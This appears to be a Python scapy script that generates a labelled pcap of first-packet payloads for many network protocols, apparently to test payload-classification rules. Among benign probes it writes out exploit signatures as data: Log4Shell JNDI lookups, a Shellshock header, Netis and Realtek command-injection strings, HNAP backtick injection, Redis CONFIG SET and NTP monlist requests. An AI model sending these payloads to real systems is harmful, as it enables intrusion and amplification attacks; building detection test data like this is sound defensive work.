#!/usr/bin/python3
"""First payloads as scapy's own layers and as real clients write them, for the rules of payloads.

payloads.py FOLDER writes payloads.pcap and payloads.txt, which names what each packet asks.
"""
import logging
import random
import socket
import struct
import subprocess
import sys

logging.getLogger("scapy").setLevel(logging.ERROR)
from scapy.all import (BOOTP, DHCP, DNS, DNSQR, IP, ISAKMP, ISAKMP_payload_SA, NBNSHeader,
                       NBNSNodeStatusRequest, NTP, NTPControl, NTPPrivate, RIP, RIPEntry, SNMP, SNMPbulk, SNMPget,
                       SNMPvarbind, TCP, TFTP, TFTP_RRQ, TFTP_WRQ, UDP, LLMNRQuery, Radius, Raw, load_contrib,
                       load_layer, raw, wrpcap)
for contrib in ("coap", "gtp", "modbus", "mqtt", "knx", "wireguard", "oncrpc", "portmap"):
    load_contrib(contrib)
for layer in ("ldap", "kerberos", "smb", "smb2", "netbios"):
    load_layer(layer)
from scapy.contrib.coap import CoAP
from scapy.contrib.gtp import GTPEchoRequest, GTPHeader
from scapy.contrib.knx import HPAI, KNX, KNXSearchRequest
from scapy.contrib.modbus import ModbusADURequest, ModbusPDU2B0EReadDeviceIdentificationRequest
from scapy.contrib.mqtt import MQTT, MQTTConnect
from scapy.contrib.oncrpc import RPC, RPC_Call
from scapy.contrib.portmap import DUMP_Call, GETPORT_Call
from scapy.contrib.wireguard import Wireguard, WireguardInitiation
from scapy.layers.ldap import LDAP, LDAP_BindRequest, LDAP_SearchRequest

random.seed(7)
packets, names = [], []


def add(name, proto, port, payload):
    ip = IP(src="203.0.113.9", dst="198.51.100.4", ttl=50, id=len(packets))
    body = payload if isinstance(payload, bytes) else raw(payload)
    if proto == "udp":
        packets.append(ip / UDP(sport=40000, dport=port) / Raw(body))
    else:
        packets.append(ip / TCP(sport=40000, dport=port, flags="PA", seq=1, ack=1) / Raw(body))
    names.append(name)


def udp(name, port, payload):
    add(name, "udp", port, payload)


def tcp(name, port, payload):
    add(name, "tcp", port, payload)


def client(*command):
    """What a real client says first to who says nothing."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(10)
    words = [w.replace("PORT", str(server.getsockname()[1])) for w in command]
    child = subprocess.Popen(words, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        peer, _ = server.accept()
        peer.settimeout(10)
        return peer.recv(1200)
    finally:
        child.kill()
        child.wait()


def dns(name, kind, klass="IN"):
    return DNS(id=4660, rd=1, qd=DNSQR(qname=name, qtype=kind, qclass=klass))


udp("dns.version-bind", 53, dns("version.bind", "TXT", "CH"))
udp("dns.version-bind", 53, dns("VERSION.BIND", "TXT", "CH"))
udp("dns.any", 53, dns("example.org", "ALL"))
udp("dns.a", 53, dns("www.example.org", "A"))
udp("dns.aaaa", 53, dns("www.example.org", "AAAA"))
udp("dns.txt", 53, dns("example.org", "TXT"))
udp("dns.root-ns", 53, dns(".", "NS"))
udp("dns.query", 53, dns("example.org", "MX"))
udp("dns.query", 5300, dns("www.example.org", "A"))
udp("mdns.services", 5353, DNS(rd=0, qd=DNSQR(qname="_services._dns-sd._udp.local", qtype="PTR")))
udp("llmnr.query", 5355, LLMNRQuery(id=7, qd=DNSQR(qname="wpad", qtype="A")))
udp("netbios.nbstat", 137, NBNSHeader(NAME_TRN_ID=1, QDCOUNT=1) /
    NBNSNodeStatusRequest(QUESTION_NAME=b"*" + b"\0" * 14))
udp("ntp.client", 123, NTP(version=4, mode=3))
udp("ntp.monlist", 123, NTPPrivate(mode=7, version=2, implementation=3, request_code=42))
udp("ntp.readvar", 123, NTPControl(version=2, op_code=2, sequence=1))
udp("snmp.v1", 161, SNMP(version=0, community="public", PDU=SNMPget(varbindlist=[SNMPvarbind(oid="1.3.6.1.2.1.1.1.0")])))
udp("snmp.v2c", 161, SNMP(version=1, community="public", PDU=SNMPget(varbindlist=[SNMPvarbind(oid="1.3.6.1.2.1.1.1.0")])))
udp("snmp.bulk", 161, SNMP(version=1, community="private",
                           PDU=SNMPbulk(max_repetitions=100, varbindlist=[SNMPvarbind(oid="1.3.6.1")])))
udp("tftp.read", 69, TFTP() / TFTP_RRQ(filename="a.cfg"))
udp("tftp.write", 69, TFTP() / TFTP_WRQ(filename="a.cfg"))
udp("rip.v1", 520, RIP(cmd=1, version=1) / RIPEntry(AF=0, metric=16))
udp("rip.v2", 520, RIP(cmd=1, version=2) / RIPEntry(AF=0, metric=16))
udp("dhcp.request", 67, BOOTP(chaddr=b"\2" * 6) / DHCP(options=[("message-type", "discover"), "end"]))
udp("ike.main", 500, ISAKMP(init_cookie=b"12345678", exch_type=2) / ISAKMP_payload_SA())
udp("ike.aggressive", 500, ISAKMP(init_cookie=b"12345678", exch_type=4) / ISAKMP_payload_SA())
udp("ike.v2-init", 500, ISAKMP(init_cookie=b"12345678", version=0x20, next_payload=33, exch_type=34))
udp("radius.access", 1812, Radius(code=1, id=3, authenticator=b"\7" * 16))
udp("radius.status", 1812, Radius(code=12, id=3, authenticator=b"\7" * 16))
udp("gtp.echo", 2152, GTPHeader(gtp_type=1, S=1, seq=1) / GTPEchoRequest())
udp("stun.binding", 3478, struct.pack(">HHI", 1, 0, 0x2112a442) + b"transactions")
udp("coap.core", 5683, CoAP(type=0, code=1, msg_id=9, options=[("Uri-Path", ".well-known"), ("Uri-Path", "core")]))
udp("coap.get", 5683, CoAP(type=0, code=1, msg_id=9, options=[("Uri-Path", "light")]))
udp("knx.search", 3671, KNX() / KNXSearchRequest(discovery_endpoint=HPAI(ip_address="203.0.113.9", port=40000)))
udp("wireguard.initiation", 51820, Wireguard(message_type=1) / WireguardInitiation())
udp("ethernetip.identity", 44818, struct.pack("<HHIIQI", 0x63, 0, 0, 0, 0, 0))
udp("portmap.dump", 111, RPC(xid=9, mtype=0) / RPC_Call(version=2, program=100000, pversion=2, procedure=4) / DUMP_Call())
udp("portmap.getport", 111, RPC(xid=9, mtype=0) / RPC_Call(version=2, program=100000, pversion=2, procedure=3) /
    GETPORT_Call())
udp("cldap.search", 389, LDAP(messageID=1, protocolOp=LDAP_SearchRequest()))
udp("modbus.identify", 502, ModbusADURequest(transId=1, unitId=1) / ModbusPDU2B0EReadDeviceIdentificationRequest())
udp("ssdp.msearch", 1900, b"M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\nMX: 1\r\n"
    b"ST: ssdp:all\r\n\r\n")
udp("memcached.stats", 11211, struct.pack(">HHHH", 1, 0, 1, 0) + b"stats\r\n")
udp("memcached.get", 11211, struct.pack(">HHHH", 1, 0, 1, 0) + b"gets a b c\r\n")
udp("chargen", 19, b"\r")
udp("qotd", 17, b"\r\n")
udp("wsd.probe", 3702, b'<?xml version="1.0"?><e:Envelope xmlns:e="http://www.w3.org/2003/05/soap-envelope" '
    b'xmlns:d="http://schemas.xmlsoap.org/ws/2005/04/discovery"><e:Body><d:Probe/></e:Body></e:Envelope>')
sip = "%s sip:100@198.51.100.4 SIP/2.0\r\nVia: SIP/2.0/UDP 203.0.113.9:5060\r\nUser-Agent: %s\r\nCSeq: 1 %s\r\n\r\n"
udp("sip.options", 5060, (sip % ("OPTIONS", "telephone", "OPTIONS")).encode())
udp("sip.sipvicious", 5060, (sip % ("OPTIONS", "friendly-scanner", "OPTIONS")).encode())
udp("sip.register", 5062, (sip % ("REGISTER", "telephone", "REGISTER")).encode())
udp("sip.invite", 5060, (sip % ("INVITE", "telephone", "INVITE")).encode())
udp("rmcp.ping", 623, bytes.fromhex("0600ff06000011be80000000"))
udp("ipmi.channel-auth", 623, bytes.fromhex("0600ff07000000000000000000092018c88100388e04b5"))
udp("quic.initial", 443, bytes.fromhex("c300000001088394c8f03e5157080000449e") + bytes(1182))
udp("quic.negotiation", 443, bytes.fromhex("c0babababa08") + bytes(1200))
udp("dtls.hello", 4433, bytes.fromhex("16feff000000000000000000360100002a000000000000002afefd") + bytes(40))
udp("openvpn.reset", 1194, bytes.fromhex("38") + b"12345678" + bytes(5))
udp("l2tp.sccrq", 1701, bytes.fromhex("c8020014000000000000000080080000000000018008000000020100"))
udp("bacnet.who-is", 47808, bytes.fromhex("810b000c0120ffff00ff1008"))
udp("fins.read", 9600, bytes.fromhex("8000020000000000000005010000")[:13])
udp("dht.get-peers", 6881, b"d1:ad2:id20:abcdefghij01234567899:info_hash20:mnopqrstuvwxyz123456e1:q9:get_peers1:t2:aa1:y1:qe")
udp("dht.find-node", 6881, b"d1:ad2:id20:abcdefghij01234567896:target20:mnopqrstuvwxyz123456e1:q9:find_node1:t2:aa1:y1:qe")
udp("utp.syn", 6881, struct.pack(">BBHIIIHH", 0x41, 0, 7, 123456, 0, 65536, 1, 0))
udp("tracker.connect", 6969, struct.pack(">QII", 0x41727101980, 0, 77))
udp("source.info", 27015, b"\xff\xff\xff\xffTSource Engine Query\0")
udp("source.players", 27015, b"\xff\xff\xff\xffU\xff\xff\xff\xff")
udp("quake.getstatus", 27960, b"\xff\xff\xff\xffgetstatus\n")
udp("raknet.ping", 19132, b"\x01" + bytes(8) + bytes.fromhex("00ffff00fefefefefdfdfdfd12345678") + bytes(8))
udp("mssql.browser", 1434, b"\x02")
udp("ubiquiti.discovery", 10001, bytes.fromhex("01000000"))
udp("netis.backdoor", 53413, b"AA\0\0AAAA cd /tmp; rm -f x\0")
udp("realtek.orf", 9034, b"orf;cd /tmp")
udp("ard.request", 3283, bytes.fromhex("0014000103"))
udp("xdmcp.query", 177, bytes.fromhex("00010002000100"))
udp("natpmp.address", 5351, b"\0\0")
udp("jenkins.discovery", 33848, b"\n")
udp("kerberos.as-req", 88, bytes.fromhex("6a816e30816ba103020105a20302010aa4815e30815c"))
udp("jndi", 514, b"a ${JNDI:ldap://203.0.113.9/x}")
udp(None, 40001, bytes(random.randrange(256) for _ in range(300)))
udp(None, 9, b"hello")

tcp("http.get-root", 80, client("curl", "-s", "http://127.0.0.1:PORT/"))
tcp("http.get", 80, client("curl", "-s", "http://127.0.0.1:PORT/robots.txt"))
tcp("http.head", 8081, client("curl", "-sI", "http://127.0.0.1:PORT/"))
tcp("http.proxy-connect", 3128, client("curl", "-sx", "http://127.0.0.1:PORT", "https://example.org/"))
tcp("http.proxy-get", 3128, client("curl", "-sx", "http://127.0.0.1:PORT", "http://example.org/"))
tcp("socks5.hello", 1080, client("curl", "-sx", "socks5://127.0.0.1:PORT", "http://192.0.2.1/"))
tcp("socks4.connect", 1080, client("curl", "-sx", "socks4://127.0.0.1:PORT", "http://192.0.2.1/"))
tcp("http.post", 80, client("curl", "-sd", "a=b", "http://127.0.0.1:PORT/login"))
tcp("jndi", 8080, client("curl", "-sA", "${jndi:ldap://203.0.113.9/x}", "http://127.0.0.1:PORT/"))
tcp("http.zgrab", 80, client("curl", "-sA", "Mozilla/5.0 zgrab/0.x", "http://127.0.0.1:PORT/"))
tcp("http.cwmp", 7547, client("curl", "-s", "http://127.0.0.1:PORT/"))
tcp("http.docker-list", 2375, client("curl", "-s", "http://127.0.0.1:PORT/v1.40/containers/json"))
tcp("http.env", 443, client("curl", "-s", "http://127.0.0.1:PORT/.env"))
tcp("tls.hello", 443, client("openssl", "s_client", "-connect", "127.0.0.1:PORT"))
tcp("tls.hello", 8443, client("curl", "-sk", "https://127.0.0.1:PORT/"))
tcp("ssh.banner", 22, client("ssh", "-p", "PORT", "-oBatchMode=yes", "x@127.0.0.1"))
tcp("postgres.ssl", 5432, client("psql", "postgresql://a@127.0.0.1:PORT/a"))
tcp("postgres.startup", 5432, client("psql", "postgresql://a@127.0.0.1:PORT/a?sslmode=disable"))
tcp("mqtt.connect", 1883, MQTT() / MQTTConnect(protoname=b"MQTT", protolevel=4, clientId=b"x"))
tcp("modbus.identify", 502, ModbusADURequest(transId=1, unitId=1) / ModbusPDU2B0EReadDeviceIdentificationRequest())
tcp("ldap.bind", 389, LDAP(messageID=1, protocolOp=LDAP_BindRequest()))
tcp("ldap.search", 389, LDAP(messageID=1, protocolOp=LDAP_SearchRequest()))
tcp("ethernetip.identity", 44818, struct.pack("<HHIIQI", 0x63, 0, 0, 0, 0, 0))
tcp("telnet.negotiation", 23, bytes.fromhex("fffd03fffb18"))
tcp("rdp.cookie", 3389, bytes.fromhex("0300002f2ae00000000000") + b"Cookie: mstshash=Administr\r\n" + bytes.fromhex("0100080003000000"))
tcp("rdp.negotiation", 3389, bytes.fromhex("030000130ee000000000000100080003000000"))
tcp("s7.connect", 102, bytes.fromhex("0300001611e00000000100c1020100c2020102c0010a"))
tcp("smb1.negotiate", 445, bytes.fromhex("0000002fff534d4272") + bytes(38))
tcp("smb2.negotiate", 445, bytes.fromhex("00000066fe534d4240000000000000000000") + bytes(80))
tcp("redis.info", 6379, b"*1\r\n$4\r\nINFO\r\n")
tcp("redis.config", 6379, b"*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$4\r\n/tmp\r\n")
tcp("adb.connect", 5555, b"CNXN" + struct.pack("<IIIII", 0x01000000, 4096, 7, 1, 0xb1a7b1bc) + b"host::\0")
tcp("jdwp.handshake", 8000, b"JDWP-Handshake")
tcp("rmi.header", 1099, bytes.fromhex("4a524d4900024b"))
tcp("iec104.test", 2404, bytes.fromhex("680443000000"))
tcp("dnp3.link", 20000, bytes.fromhex("056405c90000000036 4c".replace(" ", "")))
tcp("fox.hello", 1911, b"fox a 1 -1 fox hello\n{\n};;\n")
tcp("atg.inventory", 10001, b"\x01I20100\n")
tcp("shellshock", 80, b"GET / HTTP/1.0\r\nUser-Agent: () { :; }; /bin/ping x\r\n\r\n")
tcp("http.huawei-upgrade", 37215, b"POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\n\r\n<?xml")
tcp("http.gpon", 80, b"POST /GponForm/diag_Form?images/ HTTP/1.1\r\n\r\n")
tcp("http.hnap", 80, b"POST /HNAP1/ HTTP/1.0\r\nSOAPAction: http://purenetworks.com/HNAP1/`x`\r\n\r\n")
tcp("bittorrent.handshake", 6881, b"\x13BitTorrent protocol" + bytes(48))
tcp("vnc.version", 5900, b"RFB 003.008\n")
tcp("pptp.start", 1723, bytes.fromhex("009c00011a2b3c4d0001000001000000"))
tcp("rpc.call", 111, bytes.fromhex("80000028") + raw(RPC(xid=9, mtype=0) / RPC_Call(version=2, program=100000, pversion=2, procedure=0)))
tcp("stratum.login", 3333, b'{"id":1,"jsonrpc":"2.0","method":"login","params":{}}')
tcp(None, 40001, bytes(random.randrange(256) for _ in range(300)))
tcp(None, 9999, b"hello\r\n")

for n, p in enumerate(packets):
    p.time = 1790000000 + n * 0.01
wrpcap(f"{sys.argv[1]}/payloads.pcap", packets, linktype=101)
with open(f"{sys.argv[1]}/payloads.txt", "w") as out:
    out.writelines(f"{name or '-'}\n" for name in names)
print(f"payloads: {len(packets)} packets")
